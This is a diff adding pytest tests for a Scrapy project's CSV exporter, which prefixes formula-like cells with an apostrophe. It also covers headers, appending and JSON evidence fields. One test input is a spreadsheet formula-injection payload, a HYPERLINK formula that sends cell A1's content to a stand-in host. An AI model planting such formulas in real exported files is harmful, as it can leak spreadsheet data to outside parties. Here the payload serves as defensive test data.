@@ -1,0 +1,95 @@
+"""CSV files that a spreadsheet opens as they are meant."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+from scrapy import Spider
+from scrapy.exporters import CsvItemExporter
+from scrapy.utils.misc import build_from_crawler
+from scrapy.utils.test import get_crawler
+
+from zakerscraper.exporters import PlainCsvItemExporter, as_text
+from zakerscraper.items import Article, SearchResult
+
+
+class Ours(Spider):
+    name = "ours"
+    item_class = Article
+
+
+class Searching(Ours):
+    item_class = SearchResult
+
+
+def written(file: Any, *items: Any, spider: type[Spider] = Ours, **options: Any) -> None:
+    crawler = get_crawler(spider)
+    crawler.spider = spider()
+    exporter = build_from_crawler(PlainCsvItemExporter, crawler, file, **options)
+    exporter.start_exporting()
+    for item in items:
+        exporter.export_item(item)
+    exporter.finish_exporting()
+
+
+def rows(*items: Any, **options: Any) -> list[dict[str, str]]:
+    file = io.BytesIO()
+    written(file, *items, **options)
+    return list(csv.DictReader(io.StringIO(file.getvalue().decode())))
+
+
+@pytest.mark.parametrize(
+    "title",
+    ['=HYPERLINK("http://a.example/?x="&A1,"点这里")', "+86 号段开放", "-5℃ 的早晨", "@所有人", "\t=1+1", "\r=1"],
+)
+def test_no_title_is_a_formula(title: str) -> None:
+    (row,) = rows(Article(id="a", url="u", title=title, tags=[title, "b"]))
+    assert row["title"] == f"'{title}"
+    assert row["tags"] == f"'{title},b"
+
+
+@pytest.mark.parametrize("cell", ["", "河边的磨坊", "1+1", "a@b", "'=1", 5, -5, None])
+def test_other_cells_stay_as_they_are(cell: object) -> None:
+    assert as_text(cell) == cell
+
+
+@pytest.mark.parametrize(("spider", "first"), [(Ours, "id"), (Searching, "title")])
+def test_a_night_without_news_leaves_a_header(spider: type[Spider], first: str) -> None:
+    file = io.BytesIO()
+    written(file, spider=spider)
+    header, *rest = file.getvalue().decode().splitlines()
+    assert header.split(",")[0] == first
+    assert not rest
+
+
+def test_the_fields_that_a_user_wants_are_the_header() -> None:
+    for fields, header in ((["title", "id"], "title,id"), ({"title": "Titel"}, "Titel")):
+        file = io.BytesIO()
+        written(file, Article(id="a", url="u", title="t"), fields_to_export=fields)
+        assert file.getvalue().decode().splitlines()[0] == header
+
+
+def test_what_is_added_to_a_file_has_no_second_header(tmp_path: Path) -> None:
+    path = tmp_path / "x.csv"
+    for number in range(3):
+        with path.open("ab") as file:
+            written(file, Article(id=str(number), url="u"))
+    found = list(csv.DictReader(io.StringIO(path.read_text("utf-8"))))
+    assert [row["id"] for row in found] == ["0", "1", "2"]
+
+
+def test_evidence_is_there_or_nothing() -> None:
+    none, some = rows(Article(id="a", url="u"), Article(id="b", url="u", evidence={"title": "h1"}))
+    assert none["evidence"] == ""
+    assert json.loads(some["evidence"]) == {"title": "h1"}
+
+
+def test_a_spider_that_is_not_ours_gets_scrapys_own() -> None:
+    crawler = get_crawler(Spider)
+    crawler.spider = Spider("x")
+    assert type(build_from_crawler(PlainCsvItemExporter, crawler, io.BytesIO())) is CsvItemExporter
